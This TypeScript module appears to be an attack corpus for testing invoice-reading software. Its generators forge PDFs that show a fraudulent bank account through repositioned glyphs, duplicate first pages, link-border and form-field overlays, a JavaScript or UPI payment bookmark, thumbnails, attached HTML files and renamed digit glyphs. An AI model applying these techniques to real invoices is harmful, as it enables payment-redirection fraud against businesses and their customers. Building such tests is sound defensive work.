import { textWidth } from '../../support/extraction/breadth/letters.js';
import type { Account } from '../documents.js';
import { withData } from '../draw/attached.js';
import { type Box, type Drawing, textOf, widthOf } from '../draw/drawing.js';
import { forWeb } from '../draw/for-web.js';
import { movedGlyphs } from '../draw/moved-glyphs.js';
import { RawPdf, rect } from '../draw/raw-pdf.js';
import { accountLines, pictured } from '../draw/shows.js';
import { forger, type Material } from '../forger.js';

const forged = forger('attacks', 2);

/** A page with another account in the place of its own. */
const withAccount = ({ page, fraud }: Material): Drawing => ({
  ...page,
  texts: page.texts.map((text) =>
    text.part === 'bsb' || text.part === 'number'
      ? { ...text, text: text.part === 'bsb' ? fraud.bsb : fraud.number }
      : text,
  ),
});

/** A file whose tree of pages has the other account, and which says that the honest page is its first. */
function withTwoFirstPages(given: Material): Buffer {
  const pdf = new RawPdf().drawn(given.page).drawn(withAccount(given));
  const [first, second] = [pdf.pageNumber(0), pdf.pageNumber(1)];
  const text = pdf.file().toString('latin1');
  const kids = `/Kids [${first} 0 R ${second} 0 R] /Count 2`;
  const alone = `/Kids [${second} 0 R] /Count 1`.padEnd(kids.length);
  return forWeb(Buffer.from(text.replace(kids, alone), 'latin1'), first);
}

/** The number of the account in drawings that stand in each other's places, from the third on. */
function swapped({ page }: Material): Buffer {
  const number = textOf(page, 'number');
  const digits = [...number.text.replace(/\D/g, '')];
  const width = textWidth('0', 1000);
  const pdf = new RawPdf();
  const glyphs = digits.map((character, at) => {
    const isPaired = at > 1 && (at % 2 === 1 || at + 1 < digits.length);
    return { character, right: isPaired ? (at % 2 === 0 ? width : -width) : 0 };
  });
  return pdf.drawn(without(page), movedGlyphs(pdf, glyphs, number, page.height)).file();
}

/** The number of the account written a line below its place and drawn above it, another number the other way round. */
function onAnotherLine({ page, fraud }: Material): Buffer {
  const number = textOf(page, 'number');
  const pdf = new RawPdf();
  const up = 1_600;
  const low = { ...number, y: number.y + (up / 1000) * number.size };
  const raised = movedGlyphs(pdf, [...fraud.number].map((character) => ({ character, up })), low, page.height);
  const lowered = movedGlyphs(pdf, [...number.text.replace(/\D/g, '')].map((character) => ({ character, up: -up })), number, page.height);
  return pdf
    .drawn(without(page), {
      fonts: `${raised.fonts} ${lowered.fonts.replace('/M', '/L')}`,
      after: `${raised.after} ${lowered.after.replace('/M', '/L')}`,
    })
    .file();
} // prettier-ignore

const without = (page: Drawing): Drawing => ({ ...page, texts: page.texts.filter(({ part }) => part !== 'number') });

type Line = readonly [x0: number, y0: number, x1: number, y1: number];

/** The lines of a digit of seven segments, the lower left corner at the origin, one wide and two high. */
const SEGMENTS: Readonly<Record<string, Line>> = {
  a: [0, 2, 1, 2], b: [1, 1, 1, 2], c: [1, 0, 1, 1], d: [0, 0, 1, 0], e: [0, 0, 0, 1], f: [0, 1, 0, 2], g: [0, 1, 1, 1],
}; // prettier-ignore
const DIGITS = ['abcdef', 'bc', 'abged', 'abgcd', 'fgbc', 'afgcd', 'afgedc', 'abc', 'abcdefg', 'abcdfg'];

/** Links of which each has the place of a stroke of an account in two lines. */
function strokes({ bsb, number }: Account, { x, y }: Box, height: number, border: string): string[] {
  return [bsb, number].flatMap((line, row) =>
    [...line].flatMap((character, at) =>
      [...(DIGITS[Number(character)] ?? 'g')].map((segment) => {
        const [x0, y0, x1, y1] = (SEGMENTS[segment] as Line).map((side) => 5 * side) as unknown as Line;
        const [left, low] = [x + 4 + 8.5 * at, height - y - 20 - 18 * row];
        const sides = [left + x0 - 0.5, low + y0 - 0.5, left + x1 + 0.5, low + y1 + 0.5].map((side) => side.toFixed(2));
        return `<< /Type /Annot /Subtype /Link ${border} /F 4 /Rect [${sides.join(' ')}] /A << /S /URI /URI (https://harbour.example/) >> >>`;
      }),
    ),
  );
}

function linked(given: Material, links: readonly string[]): Buffer {
  const pdf = new RawPdf();
  const annotations = links.map((link) => pdf.add(link));
  return pdf.drawn(given.page, { annotations }).file();
}

/** The honest page with a field at the end of the number, which has no appearance. */
function withField({ page }: Material, entries: string, back: number): Buffer {
  const number = textOf(page, 'number');
  const pdf = new RawPdf();
  const box = { x: number.x + widthOf(number) - back * number.size, y: number.y - number.size, width: 40, height: 1.3 * number.size };
  const field = pdf.add(
    `<< /Type /Annot /Subtype /Widget /FT /Tx /T (n) /Ff 1 /F 4 /DA (/Helv ${number.size} Tf 0 g) ${entries} /Rect ${rect(box, page.height)} >>`,
  );
  pdf.catalog = `/AcroForm << /Fields [${field} 0 R] /DA (/Helv 0 Tf 0 g) /DR << /Font << /Helv << /Type /Font /Subtype /Type1 /BaseFont /Helvetica >> >> >> >>`;
  return pdf.drawn(page, { annotations: [field] }).file();
} // prettier-ignore

function withBookmark({ page }: Material, action: string): Buffer {
  const pdf = new RawPdf();
  const item = pdf.add(`<< /Title (Open) /A << ${action} >> >>`);
  const outline = pdf.add(`<< /Type /Outlines /First ${item} 0 R /Last ${item} 0 R /Count 1 >>`);
  pdf.catalog = `/PageMode /UseOutlines /Outlines ${outline} 0 R`;
  return pdf.drawn(page).file();
}

/** Digits by names that only some viewers know what to do with, in a font that the file does not hold. */
function renamed({ page, layout: { near }, fraud }: Material): Buffer {
  const pdf = new RawPdf();
  const names = Array.from({ length: 10 }, (_, digit) => `/plain${'abcdefghij'.charAt(digit)}`).join(' ');
  const blanks = pdf.addDeflated(
    '/CIDInit /ProcSet findresource begin 12 dict begin begincmap /CMapName /Blanks def /CMapType 2 def 1 begincodespacerange <00> <ff> endcodespacerange 1 beginbfrange <2d> <39> [<0020> <0020> <0020> <0020> <0020> <0020> <0020> <0020> <0020> <0020> <0020> <0020> <0020>] endbfrange endcmap end end',
  );
  const font = pdf.add(
    `<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding << /Type /Encoding /BaseEncoding /WinAnsiEncoding /Differences [48 ${names}] >> /ToUnicode ${blanks} 0 R >>`,
  );
  const place = `1 0 0 1 ${near.x + 4} ${page.height - near.y - 20} Tm`;
  return pdf
    .drawn(page, {
      fonts: `/N ${font} 0 R`,
      after: `BT /N 11 Tf ${place} (${fraud.bsb.replace('-', ' ')}   ${fraud.number}) Tj ET`,
    })
    .file();
}

const PLAIN_LINK = '/Border [0 0 1] /C [0 0 0]';
const FIELD = '/V (73) /MK << /BG [1 1 1] >>';

/** What some viewers show and others do not, and what fonts draw beside its place. But for three of them all passed at first contact. */
export const ATTACKS_BY_OTHER_VIEWERS = [
  forged('digits drawn in their neighbours’ places', 'The digits are seen in another order than they are written.', swapped, { layout: 'footer', shows: () => 'the digits of the number in another order' }),
  forged('number drawn on another line', 'Each of two numbers is seen in the place of the other.', onAnotherLine, { layout: 'footer' }),
  forged('two first pages, the honest one for browsers', 'Printers show the page of the tree, browsers the one that is to be shown first.', withTwoFirstPages),
  forged('borders of links that are digits', 'Some viewers draw the borders.', (given) => linked(given, strokes(given.fraud, given.layout.near, given.page.height, PLAIN_LINK))),
  forged('borders of links that nothing is said of', 'Some viewers draw a border unless they are told not to.', (given) => linked(given, strokes(given.fraud, given.layout.near, given.page.height, ''))),
  forged('border of a link across a digit', 'The border makes another digit of one.', (given) => {
    const { x, y, size, text } = textOf(given.page, 'number');
    const left = x + widthOf({ text: text.slice(0, 1), size }) * 0.85;
    const place = rect({ x: left, y: y - 0.7 * size, width: 1, height: 0.7 * size }, given.page.height);
    return linked(given, [`<< /Type /Annot /Subtype /Link ${PLAIN_LINK} /F 4 /Rect ${place} >>`]);
  }, { shows: () => 'another first digit' }),
  forged('field over the last digits', 'Viewers draw other digits in a field over the last ones.', (given) => withField(given, FIELD, 1.1), { shows: () => 'other last digits' }),
  forged('field right behind the number', 'Viewers draw two digits more in a field.', (given) => withField(given, '/V (73)', 0.05), { shows: () => 'two digits more' }),
  forged('empty field over the last digits', 'Viewers paint the last digits over.', (given) => withField(given, '/MK << /BG [1 1 1] >>', 1.1), { shows: () => 'two digits less' }),
  forged('bookmark that runs a script', 'A bookmark shows another account.', (given) => withBookmark(given, `/S /JavaScript /JS (app.alert\\("Pay ${given.fraud.bsb} ${given.fraud.number}"\\))`)),
  forged('bookmark that opens an app of payments', 'A bookmark pays somebody else.', (given) => withBookmark(given, '/S /URI /URI (upi://pay?pa=dana@bank)'), { shows: () => 'dana@bank' }),
  forged('bookmark of an address with an account', 'A bookmark leads to another account.', (given) => withBookmark(given, `/S /URI /URI (https://harbour.example/pay?bsb=${given.fraud.bsb}&account=${given.fraud.number})`)),
  forged('small picture of the page', 'The panel of pages shows another account.', async ({ page, fraud }) => {
    const pdf = new RawPdf();
    const box = { x: 0, y: 0, width: 100, height: 60 };
    return pdf.drawn(page, { entries: `/Thumb ${await pictured(pdf, accountLines(fraud, box, { size: 9 }), box)} 0 R` }).file();
  }),
  forged('attached page that is called data', 'A browser shows the attached file as a letter.', (given) => withData(given.page, 'remittance.xml', `<html xmlns="http://www.w3.org/1999/xhtml"><body>Our new account is ${given.fraud.bsb} ${given.fraud.number}.</body></html>`)),
  forged('attached data that is shown as a page', 'A browser shows the attached data as a letter.', (given) => withData(given.page, 'remittance.xml', `<?xml version="1.0"?><?xml-stylesheet type="text/css" href="data:text/css,*%7Bdisplay:block%7D"?><Invoice><Note>Our new account is ${given.fraud.bsb} ${given.fraud.number}.</Note></Invoice>`)),
  forged('digits by names that nobody knows', 'Some viewers draw what the code of a digit stands for otherwise.', renamed),
]; // prettier-ignore
